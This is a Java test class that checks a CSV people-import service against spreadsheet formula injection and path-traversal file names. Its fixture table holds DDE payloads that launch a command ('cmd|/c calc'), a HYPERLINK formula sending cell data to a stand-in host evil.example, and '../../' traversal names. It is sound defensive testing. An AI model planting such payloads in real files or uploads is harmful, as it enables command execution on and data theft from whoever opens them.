package dev.skillsgap.system.hostile;

import static dev.skillsgap.localstack.suite.Part.PROFILE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.skillsgap.system.Suite;
import dev.skillsgap.system.drill.DrillSuite;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Tables that mean harm to whoever opens or unpacks them. */
@ExtendWith(DrillSuite.class)
class HostileTablesDrill {

    private static final String TABLE = """
            id,name,team
            hostile-f1,=cmd|'/c calc'!A0,=1+1
            hostile-f2,+1+1,@SUM(1)
            hostile-f3,-2+3,"	=1"
            hostile-f4,@SUM(1+1)*cmd|'/c calc'!A0,Plain
            hostile-f5,"=HYPERLINK(""https://evil.example?x=""&A1)",Plain
            ,=1+2,Plain
            =2+3,Plain Example,Plain
            hostile-n1,- vacant -,@home
            hostile-n2,@Ada Example,-1 and more
            hostile-n3,Plain Example,=1+1
            """;

    private final Suite suite;

    HostileTablesDrill(Suite suite) {
        this.suite = suite;
    }

    /** Names that are formulas are left out, those that only look like one may be names; no spreadsheet takes what goes out for more. */
    @Test
    void formulasAreLeftOutAndNothingGoesOutAsOne() throws IOException {
        var job = imported("people.csv", TABLE.getBytes(UTF_8));

        var ended = suite.as("hr", PROFILE).get(job);
        assertEquals(3, ended.<Integer>path("outcome.added"));
        assertEquals(7, ended.<Integer>path("outcome.leftOut"));
        assertEquals(1, ended.<Integer>path("outcome.faults.unknown-team"));
        for (var table : List.of("/api/v1/people.csv", job + "/rejected.csv", job + "/faults.csv")) {
            var text = suite.as("hr", PROFILE).get(table).asString();
            assertTrue(text.lines().count() > 1, table);
            assertEquals(List.of(), formulas(text), table);
        }
        // The control: in what was sent there are some.
        assertFalse(formulas(TABLE).isEmpty());
    }

    @Test
    void aNameThatLeadsElsewhereIsOnlyAName() throws IOException {
        var outside = suite.directory().resolve("hostile-zip.csv");
        for (var name : List.of("../../hostile-zip.csv", outside.toString(), "..\\..\\hostile-zip.csv")) {
            imported("../../hostile-zip.csv", Harm.tableAt(name).bytes());
        }
        assertEquals(List.of(), named("hostile-zip.csv"));

        // The control: one that was written somewhere there is found.
        Files.writeString(outside, "x");
        assertEquals(List.of(outside), named("hostile-zip.csv"));
        Files.delete(outside);
    }

    /** Where the import can be looked at once it has ended. */
    private String imported(String fileName, byte[] file) {
        var job = suite.as("hr", PROFILE)
                .contentType("multipart/form-data")
                .multiPart("file", fileName, file, "text/csv")
                .post("/api/v1/imports")
                .then()
                .statusCode(202)
                .extract()
                .header("Location");
        await().atMost(Duration.ofMinutes(1))
                .until(() -> suite.as("hr", PROFILE).get(job).path("endedAt") != null);
        return job;
    }

    /** Where a file of that name is: in the folders that the service works in, and in all above them. */
    private List<Path> named(String name) {
        return Stream.of("people-imports", "run")
                .map(suite.directory()::resolve)
                .flatMap(folder -> Stream.iterate(folder, Objects::nonNull, Path::getParent))
                .distinct()
                .map(folder -> folder.resolve(name))
                .filter(Files::exists)
                .toList();
    }

    private static List<String> formulas(String table) throws IOException {
        try (var rows = CSVFormat.RFC4180.parse(new StringReader(table))) {
            return rows.stream()
                    .flatMap(CSVRecord::stream)
                    .map(cell -> cell.replace("\uFEFF", ""))
                    .filter(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0)
                    .toList();
        }
    }
}
